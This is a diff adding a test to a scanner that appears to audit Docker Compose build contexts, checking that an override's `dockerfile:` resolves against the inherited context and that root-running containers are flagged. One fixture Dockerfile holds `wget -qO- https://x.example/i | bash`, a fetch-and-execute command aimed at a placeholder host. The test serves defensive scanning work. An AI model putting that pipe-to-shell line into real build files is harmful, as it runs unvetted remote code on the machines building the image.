@@ -102,6 +102,27 @@ describe('build files outside what the scan reads', () => {
   });
 });
 
+describe('a build that writes only `dockerfile:` over an inherited context (helper-32)', () => {
+  it('keeps the context of the file below, for an override and for `extends.file`', async () => {
+    const root = repository({
+      'compose.yaml': 'services:\n  a:\n    build: ./ctx\n',
+      'compose.override.yaml': 'services:\n  a:\n    build: { dockerfile: Dockerfile.dev }\n',
+      'ctx/Dockerfile.dev': EVIL,
+      // A decoy where the context would be if the override's own folder were taken.
+      'Dockerfile.dev': 'FROM alpine:3.20\nUSER 1000\n',
+      'app/compose.yaml': 'services:\n  web:\n    extends: { file: ../base/common.yaml, service: s }\n    build: { dockerfile: Dockerfile.app }\n',
+      'base/common.yaml': 'services:\n  s:\n    build: ./ctx\n',
+      'base/ctx/Dockerfile.app': 'FROM debian:12\nRUN wget -qO- https://x.example/i | bash\n',
+      'app/Dockerfile.app': 'FROM alpine:3.20\nUSER 1000\n',
+    });
+    const result = await scan({ root });
+    const asRoot = result.findings.filter((f) => f.ruleId === 'container-runs-as-root');
+    // Both services run the Dockerfile Compose builds, which sets no USER.
+    expect(asRoot.flatMap((f) => f.related.map((r) => r.path)).sort()).toEqual(['base/ctx/Dockerfile.app', 'ctx/Dockerfile.dev']);
+    expect(lines(result.findings, 'build-file-not-judged')).toEqual([]);
+  });
+});
+
 describe('build files named with a `$`', () => {
   it('reads a Compose file\'s `dockerfile: evil$$.conf` as the file `evil$.conf`, and joins no Dockerfile for one a variable leaves unknown', async () => {
     const root = repository({
